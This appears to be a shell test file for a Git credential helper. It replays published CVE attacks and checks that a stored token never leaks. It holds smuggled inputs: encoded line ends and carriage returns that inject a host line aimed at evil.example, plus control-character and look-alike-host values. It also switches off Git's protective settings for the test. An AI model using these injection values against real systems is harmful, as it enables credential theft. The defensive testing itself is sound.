Published attacks on Git's credential helpers, through the real Git. mary's token is in the keyring; none of them gets it.
Newer versions of Git refuse some of these before they ask a helper, so that check is switched off where there is one.

  $ . "$TESTDIR/prelude.sh"
  $ keyring
  $ service
  $ git config --global credential.helper codecatalyst
  $ git config --global credential.protectProtocol false
  $ git config --global credential.sanitizePrompt false
  $ export GIT_ASKPASS=false
  $ pat=$(ask_ours get username=mary | sed -n 's/^password=//p')
  $ test ${#pat} -ge 20
  $ verdict() { cat "$TMPDIR/out" "$TMPDIR/err" | grep -qF "$pat" && echo THE TOKEN || echo nothing; }
  $ fill() { printf "$1" | git credential fill >"$TMPDIR/out" 2>"$TMPDIR/err"; verdict; }
  $ fetch() { timeout 60 git ls-remote "$1" >"$TMPDIR/out" 2>"$TMPDIR/err"; verdict; }

Its own host gets it:

  $ fill 'protocol=https\nhost=git.us-west-2.codecatalyst.aws\nusername=mary\n'
  THE TOKEN

CVE-2020-5260: an encoded line end in a URL adds a second host line.

  $ fill 'url=https://evil.example/%%0ahost=git.us-west-2.codecatalyst.aws%%0aprotocol=https\n'
  nothing
  $ fill 'url=https://evil.example%%0ahost=git.us-west-2.codecatalyst.aws/x\n'
  nothing
  $ fetch "https://evil.example%0ahost=$our_host/x"
  nothing

CVE-2020-11008: a URL without a host, without a scheme, or with another one.

  $ fill 'url=https:///v1/x\n'
  nothing
  $ fill 'url=://git.us-west-2.codecatalyst.aws/v1/x\n'
  nothing
  $ fill 'url=http://git.us-west-2.codecatalyst.aws/v1/x\n'
  nothing
  $ fetch "https:///$our_host/x"
  nothing

CVE-2024-50338, CVE-2024-52006 and CVE-2024-53263: a carriage return, which some helpers take for a line end.

  $ fill 'url=https://evil.example%%0dhost=git.us-west-2.codecatalyst.aws/x\n'
  nothing
  $ fill 'protocol=https\nhost=evil.example\rhost=git.us-west-2.codecatalyst.aws\n'
  nothing
  $ fill 'protocol=https\nhost=git.us-west-2.codecatalyst.aws\rx\nusername=mary\n'
  nothing
  $ fill 'protocol=https\nhost=git.us-west-2.codecatalyst.aws\nusername=mary\rhost=x\n'
  nothing
  $ fetch "https://evil.example%0dhost=$our_host/x"
  nothing

CVE-2024-50349: control characters in what a person is shown. What was sent is not repeated.

  $ ask_ours get "username=mary$(printf '\033[2J')"
  git-credential-codecatalyst: error: the value of 'username' holds a control character
  quit=1
  [1]
  $ ask_ours get "path=v1/$(printf '\033]0;title\007')"
  git-credential-codecatalyst: error: the value of 'path' holds a control character
  quit=1
  [1]

CVE-2024-53858: a repository's submodules lie on other hosts, and Git asks the same helper.

  $ for host in github.com git.us-west-2.codecatalyst.aws.evil.example git.us-west-2.codecatalyst.aws:8443 \
  >     git.us-west-2.codecatalyst.aws@evil.example evil.example/git.us-west-2.codecatalyst.aws; do
  >     fill "protocol=https\nhost=$host\nusername=mary\n"
  >     fetch "https://mary@$host/v1/ExampleCorp/Website/site"
  > done | uniq -c | sed 's/^ *//'
  10 nothing
